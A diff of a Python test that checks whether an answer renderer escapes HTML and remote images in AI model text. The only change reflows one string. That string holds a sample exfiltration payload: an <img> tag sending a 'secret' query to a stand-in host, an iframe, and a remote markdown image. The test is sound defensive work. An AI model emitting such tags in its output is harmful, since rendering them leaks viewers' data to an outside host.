@@ -55,7 +55,8 @@ def test_a_date_with_its_time_of_day_is_one_claim():
 def test_model_text_never_becomes_html_or_a_remote_image():
     """Answers are shown with HTML on (for the marks): an <img>, an <iframe> or a markdown image in model text
     must arrive as text, while a code span is left as written (markdown shows it as text)."""
-    answer = 'T is 5 <img src=https://x.example/?d=secret> <iframe src="https://x.example"></iframe> ![a](https://x/p.png) `<b>` & done'
+    answer = ('T is 5 <img src=https://x.example/?d=secret> <iframe src="https://x.example"></iframe> '
+              '![a](https://x/p.png) `<b>` & done')
     shown = markdown_with_marks(answer, check_numbers(answer, []))
     assert "<img" not in shown and "<iframe" not in shown and "![" not in shown
     assert "&lt;img src=https://x.example/?d=secret>" in shown and "`<b>`" in shown and "&amp; done" in shown
